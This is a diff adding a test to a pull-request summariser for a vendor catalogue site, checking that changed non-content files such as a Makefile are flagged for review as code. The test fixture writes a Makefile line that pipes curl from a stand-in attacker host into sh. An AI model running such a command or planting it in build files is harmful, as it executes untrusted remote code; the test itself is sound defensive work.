@@ -139,3 +139,14 @@ def test_files_outside_content_come_first_in_bold(repo: Path) -> None:
         assert "<img" not in html
         assert "amplang-uji" not in head  # content files are not listed as code
         assert "Rp35.000 → Rp38.000" in result.stdout  # and the catalogue summary follows
+
+
+def test_files_outside_content_are_named_even_when_the_content_is_broken(repo: Path) -> None:
+    """A pull request that breaks a vendor file and changes the Makefile: the summary can't
+    describe the catalogue, but still says which files to read as code."""
+    (repo / "Makefile").write_text("site:\n\tcurl https://evil.example | sh\n", "utf-8")
+    edit(repo / "content" / "vendors" / "amplang-uji.yml", "price: 35000", "price: 35rb")
+    result = run("diff", "HEAD", cwd=repo)
+    assert result.returncode == 1
+    assert "**`Makefile`**" in result.stdout and "periksa sebagai kode" in result.stdout
+    assert "amplang-uji.yml" in result.stderr and "35rb" not in result.stdout
